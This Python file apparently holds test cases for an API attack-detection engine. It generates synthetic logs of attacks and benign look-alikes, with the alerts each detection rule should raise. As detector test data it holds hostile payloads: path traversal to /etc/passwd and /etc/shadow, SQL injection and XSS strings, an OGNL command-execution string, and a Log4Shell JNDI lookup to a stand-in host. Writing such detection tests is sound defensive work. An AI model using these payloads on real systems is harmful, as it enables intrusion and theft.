    targets = [("/api/v1/files/download", "name=../../../../etc/passwd"),
               ("/api/v1/files/download", "name=..%2f..%2f..%2fetc%2fshadow"),
               ("/static/%2e%2e/%2e%2e/windows/win.ini", None)]  # fmt: skip
    for n, (path, query) in enumerate(targets):
        r.request(60 + n * 3, ip, "GET", path, 400, ua=CURL, query=query)
    return [source_alert(TRAV, ip, 3)]


@case(TRAV, "ordinary-dots")
def trav_benign(r: Recorder) -> Expected:
    ordinary_requests(r, [
        ("/api/v1/files/download", "name=q1-report.v2.pdf"), ("/api/v1/sdk", "version=1.2.3"),
        ("/api/v1/search", "q=etc...&page=2"), ("/docs/guide.html", None),
        ("/api/v1/files/download", "name=..hidden-but-harmless.txt"),
    ])  # fmt: skip
    return []


@case(SQLI, "classic-payloads")
def sqli_attack(r: Recorder) -> Expected:
    customers(r, 0, 300)
    ip = "203.0.113.36"
    queries = ["id=1%27%20OR%201=1--", "q=x%27%20UNION%20SELECT%20username,password%20FROM%20users",
               "id=1;WAITFOR%20DELAY%20%270:0:5%27--", "sort=(SELECT%20SLEEP(5))"]  # fmt: skip
    for n, query in enumerate(queries):
        r.request(60 + n * 4, ip, "GET", "/api/v1/products", 500, ua=CHROME, query=query)
    return [source_alert(SQLI, ip, len(queries))]


@case(SQLI, "search-terms")
def sqli_benign(r: Recorder) -> Expected:
    ordinary_requests(r, [
        ("/api/v1/search", "q=o%27brien"), ("/api/v1/search", "q=union+station"),
        ("/api/v1/search", "q=select+all"), ("/api/v1/search", "q=sleep+apnea"),
        ("/api/v1/orders", "sort=-created_at&order=desc"), ("/api/v1/search", "q=rock+%26+roll"),
    ])  # fmt: skip
    return []


@case(XSS, "script-in-query")
def xss_attack(r: Recorder) -> Expected:
    customers(r, 0, 300)
    ip = "203.0.113.37"
    queries = ["q=%3Cscript%3Ealert(1)%3C/script%3E", "next=javascript:alert(document.cookie)",
               "name=%3Csvg/onload=alert(1)%3E"]  # fmt: skip
    for n, query in enumerate(queries):
        r.request(60 + n * 4, ip, "GET", "/api/v1/search", 200, ua=FIREFOX, query=query)
    return [source_alert(XSS, ip, len(queries))]


@case(XSS, "ordinary-queries")
def xss_benign(r: Recorder) -> Expected:
    ordinary_requests(r, [
        ("/api/v1/search", "q=javascript+tutorial"), ("/api/v1/search", "q=svg+icons"),
        ("/api/v1/files", "download=1"), ("/api/v1/search", "q=scripting"),
        ("/welcome", "utm_source=newsletter&utm_campaign=onboarding"),
    ])  # fmt: skip
    return []


# -- error-flood-source: 100+ answers 401/403/404 to one source in 5 minutes -------------------

EF = "error-flood-source"


@case(EF, "directory-brute-force")
def ef_attack(r: Recorder) -> Expected:
    customers(r, 0, 300)
    ip = "203.0.113.38"
    for n in range(150):
        r.request(30 + n * 0.7, ip, "GET", f"/api/{'abcdefghij'[n % 10]}{n}", 404, ua=CHROME)
    return [source_alert(EF, ip, 150)]


@case(EF, "googlebot-crawl-of-stale-links")
def ef_crawler(r: Recorder) -> Expected:
    customers(r, 0, 300)
    for n in range(60):  # ~40 of them gone
        status = 404 if n % 3 else 200
        r.request(30 + n, GOOGLEBOT_IP, "GET", f"/catalog/item-{900 + n}", status, ua=GOOGLEBOT)
    return []


@case(EF, "health-probe-every-five-seconds")
def ef_probe(r: Recorder) -> Expected:
    probes(r, 0, 1800)
    for t in range(2, 1800, 5):  # a second probe pointed at a path that does not exist
        r.request(t, "198.51.100.251", "GET", "/healthz", 404, ua=BLACKBOX)
    return []


@case(EF, "ninety-nine-errors-in-five-minutes")
def ef_near(r: Recorder) -> Expected:
    customers(r, 0, 400)
    for n in range(99):
        r.request(30 + n * 3, "203.0.113.38", "GET", f"/api/x{n}", 404, ua=CHROME)
    return []


# -- token-many-ips / session-many-ips: one credential from 5+ addresses in 30 minutes ---------

TMI, SMI = "token-many-ips", "session-many-ips"


def reuse(
    r: Recorder, credential: str, ips: list[str], starts: list[int], *, session: bool
) -> None:
    """Requests carrying one token (or session cookie) from each address at its start time."""
    who = account(9)
    for ip, start in zip(ips, starts, strict=True):
        for k in range(3):
            r.request(start + k * 20, ip, "GET", "/api/v1/account", 200, ua=APP, user=who,
                      token_id=None if session else credential,
                      session_id=credential if session else None)  # fmt: skip


def stolen(r: Recorder, rule: str, *, session: bool) -> Expected:
    customers(r, 0, 900)
    credential = token(f"stolen-{rule}")
    ips = [home_ip(9), "203.0.113.41", "203.0.113.42", bot_ip(5), bot_ip(6), "198.51.100.77"]
    reuse(r, credential, ips, [0, 300, 320, 340, 360, 380], session=session)
    field_name = "labels.session_id" if session else "labels.token_id"
    # The first address is where the credential was first used: its owner's, the victim's.
    thieves = ips[1:]
    return {
        "alerts": [alert(rule, {field_name: credential}, attackers=thieves, accounts=[account(9)])],
        "incidents": [{"attackers": sorted(thieves)}],
    }


def phone(r: Recorder, rule: str, *, session: bool) -> Expected:
    customers(r, 0, 3600, every=120)
    credential = token(f"phone-{rule}")
    ips = ["192.0.2.44", "100.64.12.7", OFFICE_NAT, "100.64.80.3"]  # home, 4G, office, 4G
    starts = [0, 900, 1800, 2700]
    for ip, start in zip(ips, starts, strict=True):
        reuse(r, credential, [ip] * 5, [start + k * 150 for k in range(5)], session=session)
    return []


def near_miss(r: Recorder, rule: str, *, session: bool) -> Expected:
    customers(r, 0, 2400, every=120)
    credential = token(f"near-{rule}")
    ips = [home_ip(9), "203.0.113.41", "203.0.113.42", bot_ip(5), bot_ip(6)]
    # the fifth address comes 31 minutes after the first one's last request
    reuse(r, credential, ips, [0, 600, 1200, 1500, 1900], session=session)
    return []


for _rule, _session in ((TMI, False), (SMI, True)):
    case(_rule, "stolen-credential-replayed")(partial(stolen, rule=_rule, session=_session))
    case(_rule, "phone-changing-networks")(partial(phone, rule=_rule, session=_session))
    case(_rule, "five-addresses-over-thirty-one-minutes")(
        partial(near_miss, rule=_rule, session=_session)
    )


# -- token-replayed / session-replayed: one credential from a new network and a new client,
# between two of its owner's uses (tokens.yml; `apiwatch.detect.replay`) -----------------------

TRP, SRP = "token-replayed", "session-replayed"
THIEVES = ("203.0.113.41", "198.51.100.77")  # two servers in two /16s


def credential_use(
    r: Recorder, t: float, ip: str, path: str, *, credential: str, session: bool, ua: str,
    user: str = account(12), status: int = 200,
) -> None:  # fmt: skip
    """One answered request carrying the credential (a token, or a session cookie)."""
    r.request(t, ip, "GET" if status != 201 else "POST", path, status, ua=ua, user=user,
              token_id=None if session else credential,
              session_id=credential if session else None)  # fmt: skip


def owner_polls(
    r: Recorder, credential: str, start: int, end: int, *, session: bool, ip: str = home_ip(12),
    ua: str = APP,
) -> None:  # fmt: skip
    """The owner's app refreshing with its credential from home every three to seven minutes."""
    rng, t = r.rng, float(start)
    while t < end:
        credential_use(r, t, ip, "/api/v1/users/12/orders", credential=credential,
                       session=session, ua=ua)  # fmt: skip
        t += rng.uniform(180, 420)


def replayed(r: Recorder, rule: str, *, session: bool) -> Expected:
    customers(r, 0, 3600, every=120)
    credential = token(f"replayed-{rule}")
    owner_polls(r, credential, 0, 3600, session=session)
    loot = ("/api/v1/me", "/api/v1/users/12/addresses", "/api/v1/users/12/payment-methods")
    for n in range(9):  # the thief reads the account from two servers, with a desktop browser
        credential_use(r, 1500 + n * 40, THIEVES[n % 2], loot[n % 3], credential=credential,
                       session=session, ua=CHROME)  # fmt: skip
    field_name = "labels.session_id" if session else "labels.token_id"
    return {
        "alerts": [
            alert(rule, {field_name: credential}, attackers=list(THIEVES), accounts=[account(12)])
        ],
        "incidents": [{"attackers": sorted(THIEVES), "accounts_compromised": [account(12)]}],
    }


def phone_moves(r: Recorder, rule: str, *, session: bool) -> Expected:
    customers(r, 0, 3600, every=120)
    credential = token(f"moving-{rule}")
    # home wifi, then the carrier on the way to work, then the office wifi: one app, in turn
    for ip, start, end in ((home_ip(12), 0, 1200), ("100.64.12.7", 1300, 2400),
                           ("198.51.100.77", 2500, 3600)):  # fmt: skip
        owner_polls(r, credential, start, end, session=session, ip=ip)
    return []


def partner_servers(r: Recorder, rule: str, *, session: bool) -> Expected:
    customers(r, 0, 3600, every=120)
    credential = token(f"partner-{rule}")
    agent = "acme-sync/3.4.1 Python/3.12 aiohttp/3.10.10"
    for n in range(60):  # its two servers in two /16s take turns, one client
        credential_use(r, n * 55, THIEVES[n % 2], "/api/v1/users/12/orders",
                       credential=credential, session=session, ua=agent)  # fmt: skip
    return []


def two_devices_at_home(r: Recorder, rule: str, *, session: bool) -> Expected:
    customers(r, 0, 3600, every=120)
    credential = token(f"devices-{rule}")
    for n in range(30):  # a laptop and a phone on the home wifi, in turn
        credential_use(r, n * 110, home_ip(12), "/api/v1/users/12/orders", credential=credential,
                       session=session, ua=(CHROME, IPHONE)[n % 2])  # fmt: skip
    return []


def owner_gone(r: Recorder, rule: str, *, session: bool) -> Expected:
    customers(r, 0, 5400, every=120)
    credential = token(f"gone-{rule}")
    owner_polls(r, credential, 0, 1200, session=session)
    # used from elsewhere after its owner stopped, and its owner never comes back: no sign of
    # two places at once (an owner who moved on with a new device looks the same)
    for n in range(6):
        credential_use(r, 2000 + n * 60, THIEVES[0], "/api/v1/me", credential=credential,
                       session=session, ua=CHROME)  # fmt: skip
    return []


for _rule, _session in ((TRP, False), (SRP, True)):
    case(_rule, "stolen-and-replayed-from-two-servers")(
        partial(replayed, rule=_rule, session=_session)
    )
    case(_rule, "phone-moving-between-networks")(partial(phone_moves, rule=_rule, session=_session))
    case(_rule, "partner-on-two-servers")(partial(partner_servers, rule=_rule, session=_session))
    case(_rule, "laptop-and-phone-at-home")(
        partial(two_devices_at_home, rule=_rule, session=_session)
    )
    case(_rule, "used-elsewhere-after-its-owner-left")(
        partial(owner_gone, rule=_rule, session=_session)
    )


# -- account abuse: enumeration, takeover with persistence, scraping, IPv6 rotation, canaries ---
# (enumeration.yml, takeover.yml, scraping.yml; the /64 aggregates and canaries are the engine's)


def app_event(
    r: Recorder,
    t: float,
    ip: str,
    method: str,
    path: str,
    status: int,
    *,
    ua: str = CHROME,
    user: str | None = None,
    user_id: str | None = None,
    route: str | None = None,
    query: str | None = None,
    action: Action | None = None,
    reason: str | None = None,
    duration_ms: float | None = None,
    extra: dict[str, Any] | None = None,
) -> None:
    """One event as an app with the sensor and its audit calls logs it: an explicit action and
    reason, the request's duration, and ECS fields beyond apiwatch's model (``extra``)."""
    verdict = action or request_action(status, None, _login_verdict(method, path, status))
    chosen = verdict if isinstance(verdict, Action) else Action.HTTP_REQUEST
    spec = chosen.spec
    duration = int(duration_ms * 1_000_000) if duration_ms is not None else None
    r.events.append(
        Event(
            timestamp=T0 + timedelta(seconds=t),
            event=EventMeta(
                id=r._id(),
                action=chosen.value,
                kind="event",
                category=list(spec.category),
                type=list(spec.type),
                outcome="success" if status < 400 else "failure",
                duration=duration,
                reason=reason,
            ),
            source=Source(ip=ip),
            http=Http(
                request=HttpRequest(method=method), response=HttpResponse(status_code=status)
            ),
            url=Url(path=path, query=query),
            user_agent=UserAgent(original=ua),
            user=User(name=user, id=user_id) if user or user_id else None,
            service=Service(name="shop-api"),
            labels={"route": route or path},
            extra=extra or {},
        )
    )


def geo(country: str, asn: int) -> dict[str, Any]:
    """ECS ``source.geo`` and ``source.as`` as a GeoIP-enriching shipper writes them."""
    return {"source": {"geo": {"country_iso_code": country}, "as": {"number": asn}}}


def timed_login(
    r: Recorder,
    t: float,
    ip: str,
    who: str,
    *,
    ok: bool,
    ms: float,
    ua: str = CHROME,
    reason: str | None = None,
) -> None:
    """A login through the sensor that took ``ms`` milliseconds to answer."""
    action = Action.AUTHN_LOGIN_SUCCESS if ok else Action.AUTHN_LOGIN_FAIL
    app_event(
        r,
        t,
        ip,
        "POST",
        LOGIN,
        200 if ok else 401,
        ua=ua,
        user=who,
        action=action,
        reason=reason,
        duration_ms=ms,
    )


def hashing_customers(r: Recorder, start: int, end: int, *, every: int = 20) -> None:
    """Customers logging in to an app that hashes passwords (~250 ms a check), from home."""
    rng = r.rng
    for n, t in enumerate(range(start, end, every)):
        timed_login(
            r,
            t,
            home_ip(n),
            account(n),
            ok=True,
            ms=rng.uniform(210, 320),
            ua=BENIGN[n % len(BENIGN)],
        )


ENUM, ENUMA, ENUML = (
    "account-enumeration",
    "account-enumeration-anonymous",
    "account-enumeration-login",
)
RESET = "/api/v1/password-reset"


def reset_request(r: Recorder, t: float, ip: str, who: str, *, known: bool, ua: str) -> None:
    """A password-reset request naming ``who``; the app says 404 for an unknown account."""
    app_event(
        r,
        t,
        ip,
        "POST",
        RESET,
        202 if known else 404,
        ua=ua,
        user=who,
        reason=None if known else "unknown_user",
    )


@case(ENUM, "reset-checks-a-name-list")
def enum_reset(r: Recorder) -> Expected:
    customers(r, 0, 600)
    ip = "203.0.113.70"
    names = [f"{first}{n}@example.com" for n, first in enumerate(_FIRST)] + [
        account(n) for n in range(8)
    ]
    for n, who in enumerate(names):  # twenty unknown, eight customers
        reset_request(
            r, 60 + n * 7, ip, who, known=who.endswith(("org", "net")) or n >= 20, ua=PYTHON
        )
    return [source_alert(ENUM, ip)]


@case(ENUM, "forced-reset-wave-behind-office-nat")
def enum_wave(r: Recorder) -> Expected:
    customers(r, 0, 900)
    for n in range(60):  # every employee told to reset; three mistype their address
        who = account(500 + n % 220)
        typo = n % 20 == 7
        reset_request(
            r,
            30 + n * 12,
            OFFICE_NAT,
            who.replace("@", "@x") if typo else who,
            known=not typo,
            ua=BENIGN[n % 3],
        )
    return []


@case(ENUMA, "access-log-reset-probing")
def enuma_probe(r: Recorder) -> Expected:
    access_customers(r, 0, 600)
    ip = "203.0.113.71"
    for n in range(40):
        r.access(60 + n * 5, ip, "POST", RESET, 404, ua=PYTHON)
    return [source_alert(ENUMA, ip, 40)]


@case(ENUMA, "access-log-reset-wave")
def enuma_wave(r: Recorder) -> Expected:
    access_customers(r, 0, 900)
    for n in range(60):
        r.access(
            30 + n * 12, OFFICE_NAT, "POST", RESET, 404 if n % 20 == 7 else 202, ua=BENIGN[n % 3]
        )
    return []


@case(ENUML, "timing-side-channel")
def enuml_timing(r: Recorder) -> Expected:
    hashing_customers(r, -1800, 900)
    ip = "203.0.113.72"
    for n in range(30):  # five names exist (a password check, slow), 25 do not (answered at once)
        exists = n % 6 == 0
        who = account(300 + n) if exists else f"guess{n}@example.com"
        timed_login(r, 60 + n * 9, ip, who, ok=False, ms=260 if exists else 3, ua=PYTHON)
    return [source_alert(ENUML, ip)]


@case(ENUML, "app-says-unknown-user")
def enuml_reason(r: Recorder) -> Expected:
    customers(r, 0, 600)
    ip = "203.0.113.73"
    for n in range(24):
        timed_login(
            r,
            60 + n * 9,
            ip,
            f"guess{n}@example.com",
            ok=False,
            ms=5,
            ua=PYTHON,
            reason="unknown_user",
        )
    return [source_alert(ENUML, ip)]


@case(ENUML, "stuffing-known-accounts-is-not-enumeration")
def enuml_known(r: Recorder) -> Expected:
    hashing_customers(r, -1800, 900)
    for n in range(30):  # every name exists: each answer took a password check
        timed_login(r, 60 + n * 9, "203.0.113.74", account(300 + n), ok=False, ms=250, ua=PYTHON)
    return []


@case(ENUML, "office-nat-typos-timed")
def enuml_office(r: Recorder) -> Expected:
    hashing_customers(r, -1800, 1800)
    for n in range(60):  # sixty people, one in three mistypes a password: slow failures
        who, t = account(500 + n), n * 25
        if n % 3 == 0:
            timed_login(r, t, OFFICE_NAT, who, ok=False, ms=240, ua=BENIGN[n % 3])
        timed_login(r, t + 8, OFFICE_NAT, who, ok=True, ms=250, ua=BENIGN[n % 3])
    return []


ATP = "account-takeover-persistence"
HOME_GEO = geo("FR", 3215)


def regular(r: Recorder, who: str, ip: str, *, ua: str = IPHONE) -> None:
    """An account's usual logins: three this morning, from home."""
    for t in (-7000, -5000, -3000):
        app_event(r, t, ip, "POST", LOGIN, 200, ua=ua, user=who, extra=HOME_GEO)


@case(ATP, "stuffing-hit-then-email-and-password-changed")
def atp_hit(r: Recorder) -> Expected:
    customers(r, -600, 900)
    victim, ip = account(42), "203.0.113.80"
    regular(r, victim, home_ip(42))
    attacker_geo = geo("VN", 64500)
    for n in range(20):
        app_event(
            r, n * 5, ip, "POST", LOGIN, 401, ua=BOTNET, user=account(300 + n), extra=attacker_geo
        )
    app_event(r, 110, ip, "POST", LOGIN, 200, ua=BOTNET, user=victim, extra=attacker_geo)
    app_event(
        r,
        180,
        ip,
        "PATCH",
        "/api/v1/account/email",
        200,
        ua=BOTNET,
        user=victim,
        extra=attacker_geo,
    )
    app_event(
        r,
        200,
        ip,
        "POST",
        "/api/v1/account/password",
        200,
        ua=BOTNET,
        user=victim,
        action=Action.AUTHN_PASSWORD_CHANGE,
        extra=attacker_geo,
    )
    return {
        "alerts": [alert(ATP, {"user.name": victim}, attackers=[ip], accounts=[victim])],
        "incidents": [{"attackers": [ip], "accounts_compromised": [victim]}],
    }


@case(ATP, "phished-account-known-from-its-requests")
def atp_phished(r: Recorder) -> Expected:
    customers(r, -600, 900)
    victim, home, ip = account(46), home_ip(46), "198.51.100.140"
    for t in range(-3000, 0, 400):  # the app browsing with its token: no login in the log
        app_event(r, t, home, "GET", "/api/v1/users/46/orders", 200, ua=APP, user=victim)
    app_event(r, 100, ip, "POST", LOGIN, 200, ua=FIREFOX, user=victim)
    app_event(r, 141, ip, "PATCH", "/api/v1/me/email", 200, ua=FIREFOX, user=victim)
    app_event(r, 141, ip, "PATCH", "/api/v1/me/email", 200, ua=FIREFOX, user=victim,
              action=Action.USER_UPDATED, reason="e-mail changed")  # fmt: skip
    app_event(r, 177, ip, "POST", "/api/v1/me/password", 204, ua=FIREFOX, user=victim,
              action=Action.AUTHN_PASSWORD_CHANGE)  # fmt: skip
    return {
        "alerts": [alert(ATP, {"user.name": victim}, attackers=[ip], accounts=[victim])],
        "incidents": [{"attackers": [ip], "accounts_compromised": [victim]}],
    }


@case(ATP, "new-phone-forgets-the-password-and-resets-it")
def atp_reset(r: Recorder) -> Expected:
    customers(r, 0, 900)
    who, phone = account(47), "198.51.100.91"
    regular(r, who, home_ip(47))
    app_event(r, 100, phone, "POST", LOGIN, 200, ua=APP, user=who, extra=geo("DE", 3320))
    app_event(r, 300, phone, "POST", LOGIN, 401, ua=APP, user=who, extra=geo("DE", 3320))
    app_event(r, 320, phone, "POST", "/api/v1/password/forgot", 202, ua=APP, user=who)
    app_event(r, 500, phone, "POST", "/api/v1/password/reset", 204, ua=APP, user=who,
              action=Action.AUTHN_PASSWORD_CHANGE, reason="password reset")  # fmt: skip
    return []


@case(ATP, "traveller-changes-nothing")
def atp_travel(r: Recorder) -> Expected:
    customers(r, 0, 900)
    who = account(43)
    regular(r, who, home_ip(43))
    app_event(
        r, 100, "198.51.100.90", "POST", LOGIN, 200, ua=IPHONE, user=who, extra=geo("JP", 2516)
    )
    app_event(
        r,
        130,
        "198.51.100.90",
        "GET",
        "/api/v1/orders",
        200,
        ua=IPHONE,
        user=who,
        extra=geo("JP", 2516),
    )
    return []


@case(ATP, "owner-changes-password-at-home")
def atp_home(r: Recorder) -> Expected:
    customers(r, 0, 900)
    who = account(44)
    regular(r, who, home_ip(44))
    app_event(r, 100, home_ip(44), "POST", LOGIN, 200, ua=IPHONE, user=who, extra=HOME_GEO)
    app_event(
        r,
        160,
        home_ip(44),
        "POST",
        "/api/v1/account/password",
        200,
        ua=IPHONE,
        user=who,
        action=Action.AUTHN_PASSWORD_CHANGE,
        extra=HOME_GEO,
    )
    return []


@case(ATP, "new-phone-turns-on-mfa")
def atp_phone(r: Recorder) -> Expected:
    customers(r, 0, 900)
    who = account(45)
    regular(r, who, home_ip(45), ua=CHROME)
    app_event(r, 100, home_ip(45), "POST", LOGIN, 200, ua=IPHONE, user=who, extra=HOME_GEO)
    app_event(
        r, 150, home_ip(45), "POST", "/api/v1/account/mfa", 201, ua=IPHONE, user=who, extra=HOME_GEO
    )
    return []


SCRAPE, DEEP = "object-scraping", "deep-pagination"
PROFILE = "/api/v1/users/{user_id}/profile"


@case(SCRAPE, "token-holder-reads-other-profiles")
def scrape_profiles(r: Recorder) -> Expected:
    customers(r, 0, 3600, every=90)
    ip, who, tok = "203.0.113.81", "mallory@example.net", token("mallory")
    for n in range(70):  # a human pace: one profile every half minute
        app_event(
            r,
            60 + n * 30,
            ip,
            "GET",
            f"/api/v1/users/{1000 + n}/profile",
            200,
            ua=CHROME,
            user=who,
            user_id="666",
            route=PROFILE,
        )
    _ = tok
    return [alert(SCRAPE, {"apiwatch.actor": who}, attackers=[ip])]


@case(SCRAPE, "support-agent-and-own-profiles")
def scrape_support(r: Recorder) -> Expected:
    customers(r, 0, 3600, every=90)
    agent = "support.kim@example.com"
    for n in range(35):  # the customers of the day
        app_event(
            r,
            60 + n * 100,
            OFFICE_NAT,
            "GET",
            f"/api/v1/users/{2000 + n * 7}/profile",
            200,
            user=agent,
            user_id="17",
            route=PROFILE,
        )
    for n in range(80):  # customers reading their own profile
        app_event(
            r,
            30 + n * 40,
            home_ip(n),
            "GET",
            f"/api/v1/users/{3000 + n}/profile",
            200,
            ua=APP,
            user=account(n),
            user_id=str(3000 + n),
            route=PROFILE,
        )
    return []


SCRAPE_SOURCE = "object-scraping-source"
CGNAT = "198.51.100.20"


def _walk(r: Recorder, ip: str, start: int, reads: int) -> None:
    """A customer walking other customers' ids downward in an access log, one every 15 s: the
    orders of each (404 for every fourth id, which does not exist), then the first order."""
    r.access_login(start, ip, ok=True, ua=CHROME)
    for n in range(reads):
        t, uid = start + 10 + n * 15, 5000 - n
        r.access(t, ip, "GET", f"/api/v1/users/{uid}/orders", 404 if n % 4 == 3 else 200, ua=CHROME)
        if n % 4 != 3:
            r.access(t + 3, ip, "GET", f"/api/v1/orders/{90000 + uid}", 200, ua=CHROME)


@case(SCRAPE_SOURCE, "access-log-walks-owner-ids")
def scrape_source_walk(r: Recorder) -> Expected:
    access_customers(r, 0, 3600, every=90)
    ip = "203.0.113.83"
    _walk(r, ip, 60, 70)
    group = {"source.ip": ip, "user_agent.original": CHROME}
    return [alert(SCRAPE_SOURCE, group, attackers=[ip])]


@case(SCRAPE_SOURCE, "walk-of-forty-owners")
def scrape_source_near(r: Recorder) -> Expected:
    access_customers(r, 0, 3600, every=90)
    _walk(r, "203.0.113.83", 60, 40)
    return []


@case(SCRAPE_SOURCE, "sensor-events-name-the-caller")
def scrape_source_named(r: Recorder) -> Expected:
    customers(r, 0, 3600, every=90)
    route = "/api/v1/users/{user_id}/orders"
    for n in range(70):  # the walk of the positive case, by a caller the sensor names
        uid = 5000 - n
        app_event(r, 70 + n * 15, "203.0.113.83", "GET", f"/api/v1/users/{uid}/orders",
                  404 if n % 4 == 3 else 200, user="mallory@example.net", user_id="666",
                  route=route)  # fmt: skip
    return []  # object-scraping judges a named caller, comparing the owner with it


@case(SCRAPE_SOURCE, "cgnat-customers-read-their-own-orders")
def scrape_source_crowd(r: Recorder) -> Expected:
    access_customers(r, 0, 3600, every=90)
    for n in range(80):  # one carrier address; most phones run the same app version
        t, ua = 20 + n * 40, APP if n % 4 else BENIGN[n % 3]
        r.access_login(t, CGNAT, ok=True, ua=ua)
        # One phone in five still refreshes the account it closed since: 404.
        status = 404 if n % 5 == 0 else 200
        r.access(t + 5, CGNAT, "GET", f"/api/v1/users/{3000 + n}/orders", status, ua=ua)
    return []


@case(SCRAPE_SOURCE, "partner-pages-its-own-orders")
def scrape_source_partner(r: Recorder) -> Expected:
    access_customers(r, 0, 3600, every=90)
    ip = "198.51.100.60"
    for page in range(1, 201):
        t = 10 + page * 15
        r.access(t, ip, "GET", f"/api/v1/users/4242/orders?page={page}&per_page=100", 200,
                 ua=OKHTTP)  # fmt: skip
        for k in range(3):
            r.access(t + 2 + k, ip, "GET", f"/api/v1/orders/{page * 100 + k}", 200, ua=OKHTTP)
    return []


@case(DEEP, "token-holder-pages-all-users")
def deep_users(r: Recorder) -> Expected:
    customers(r, 0, 3600, every=90)
    ip, who = "203.0.113.82", "mallory@example.net"
    for page in range(1, 61):
        app_event(
            r,
            30 + page * 20,
            ip,
            "GET",
            "/api/v1/users",
            200,
            ua=PYTHON,
            user=who,
            user_id="666",
            query=f"page={page}&per_page=50",
        )
    return [alert(DEEP, {"apiwatch.actor": who, "apiwatch.route": "/api/v1/users"}, attackers=[ip])]


@case(DEEP, "partner-pages-its-own-orders")
def deep_partner(r: Recorder) -> Expected:
    customers(r, 0, 3600, every=90)
    ip, partner = "198.51.100.60", "acme-integration"
    route = "/api/v1/partners/{partner_id}/orders"
    for page in range(1, 201):
        app_event(
            r,
            10 + page * 15,
            ip,
            "GET",
            "/api/v1/partners/p42/orders",
            200,
            ua=OKHTTP,
            user=partner,
            user_id="p42",
            route=route,
            query=f"page={page}&per_page=100",
        )
    return []


def v6(net: str, n: int) -> str:
    """The ``n``-th address of a /64 such as ``2001:db8:66:1``, privacy-extension style."""
    return f"{net}:{(n * 7919) % 65536:x}:{(n * 104729) % 65536:x}:{n % 997:x}:{1 + n:x}"


@case(CS, "ipv6-rotation-in-one-64")
def cs_v6(r: Recorder) -> Expected:
    customers(r, 0, 600)
    ips = [v6("2001:db8:66:1", n) for n in range(40)]
    tried = [account(300 + n) for n in range(40)]
    for n, (ip, who) in enumerate(zip(ips, tried, strict=True)):  # a new address per try
        r.login(60 + n * 4, ip, who, ok=False, ua=PYTHON)
    return [alert(CS, {"apiwatch.net64": "2001:db8:66:1::/64"}, attackers=ips, accounts=tried)]


@case(ATS, "ipv6-rotation-hit-from-a-fresh-address")
def ats_v6(r: Recorder) -> Expected:
    customers(r, 0, 600)
    net = "2001:db8:66:1"
    ips = [v6(net, n) for n in range(30)]
    for n, ip in enumerate(ips):
        r.login(60 + n * 4, ip, account(300 + n), ok=False, ua=PYTHON)
    winner, fresh = account(340), v6(net, 99)
    r.login(200, fresh, winner, ok=True, ua=PYTHON)  # a stolen password works, from a new address
    r.request(205, fresh, "GET", "/api/v1/account/payment-methods", 200, ua=PYTHON, user=winner)
    return [alert(ATS, {"apiwatch.net64": f"{net}::/64"}, attackers=[*ips, fresh])]


@case(CS, "ipv6-office-64")
def cs_v6_office(r: Recorder) -> Expected:
    for n in range(80):  # eighty colleagues, each with its own address; one in three mistypes
        ip, who, t = v6("2001:db8:10:1", n), account(500 + n), n * 12
        if n % 3 == 0:
            r.login(t, ip, who, ok=False, ua=BENIGN[n % 3])
        r.login(t + 7, ip, who, ok=True, ua=BENIGN[n % 3])
        r.request(t + 12, ip, "GET", "/api/v1/dashboard", 200, ua=BENIGN[n % 3], user=who)
    return []


@case(BF, "uptime-canary-failing-every-minute")
def bf_canary(r: Recorder) -> Expected:
    customers(r, 0, 1800)
    for t in range(0, 1800, 60):  # the canary's password expired; the monitor keeps trying
        r.login(t, PROBE_IP, "canary@example.com", ok=False, ua=BLACKBOX)
    return []


# -- logging-stopped: a service that sent 20+ events, then nothing for 15 minutes --------------

LS = "logging-stopped"


def service_traffic(r: Recorder, service: str, start: int, end: int, every: int = 30) -> None:
    for n, t in enumerate(range(start, end, every)):
        r.request(t, home_ip(n), "GET", f"/api/v1/{service}/status", 200, ua=APP, service=service)


@case(LS, "orders-service-goes-quiet")
def ls_quiet(r: Recorder) -> Expected:
    service_traffic(r, "orders-api", 0, 1200)  # 40 events, the last at 09:19:30
    service_traffic(r, "billing-api", 5, 3000)
    return [alert(LS, {"service.name": "orders-api"}, count=40)]


@case(LS, "night-lull-fourteen-minutes")
def ls_lull(r: Recorder) -> Expected:
    service_traffic(r, "orders-api", 0, 1200)
    service_traffic(r, "orders-api", 1170 + 14 * 60, 3000)
    service_traffic(r, "billing-api", 5, 3000)
    return []


@case(LS, "nineteen-events-then-nothing")
def ls_near(r: Recorder) -> Expected:
    service_traffic(r, "report-worker", 0, 570)  # 19 events
    service_traffic(r, "billing-api", 5, 3000)
    return []


# -- rules after the CrowdSec hub's HTTP scenarios (crowdsec.yml, crowdsec-floods.yml) -------

EXP, TECH, PROBE = "exploit-attempt", "technology-probe", "probing-source"
RURI, CACHE, UAS, WPU, APISCP = (
    "random-uri-flood",
    "cache-bypass-flood",
    "user-agent-switching",
    "wordpress-user-enum",
    "apiscp-brute-force",
)


Hits = list[tuple[str, str, int]]


def access_scan(
    r: Recorder, rule: str, ip: str, lines: Hits, *, ua: str, gap: float = 1, fires: bool = True
) -> Expected:
    """Five minutes of access-log customers, and the requests ``(method, target, status)`` of
    one client from second 60 on, ``gap`` seconds apart: the rule's alert on it when it
    ``fires``, else none."""
    access_customers(r, 0, 300)
    for n, (method, target, status) in enumerate(lines):
        r.access(60 + int(n * gap), ip, method, target, status, ua=ua)
    return [source_alert(rule, ip, len(lines))] if fires else []


OGNL = "/%24%7B%28%23a%3D%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%7D/"


@case(EXP, "confluence-ognl-and-log4shell")
def exp_attack(r: Recorder) -> Expected:
    exploits = [
        ("GET", OGNL, 404),
        ("GET", "/?x=${jndi:ldap://203.0.113.99/a}", 200),
        ("POST", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", 404),
    ]
    return access_scan(r, EXP, "203.0.113.51", exploits, ua=CURL)


@case(EXP, "ordinary-requests")
def exp_benign(r: Recorder) -> Expected:
    pages = [
        ("GET", "/index.php?page=setup", 200),
        ("POST", "/index.php?login=1", 302),
        ("GET", "/api/v1/search?q=java.lang+runtime", 200),
    ]
    return access_scan(r, EXP, home_ip(200), pages, ua=FIREFOX, fires=False)


@case(TECH, "web-shell-and-sap-probes")
def tech_attack(r: Recorder) -> Expected:
    probes = [
        ("GET", "/c99.php", 404),
        ("GET", "/sap/bc/gui/x", 404),
        ("CONNECT", "mail.example.com:25", 400),
    ]
    return access_scan(r, TECH, "203.0.113.52", probes, ua=CURL)


@case(TECH, "answered-and-ordinary-404s")
def tech_benign(r: Recorder) -> Expected:
    pages = [
        ("GET", "/sap/bc/report", 200),
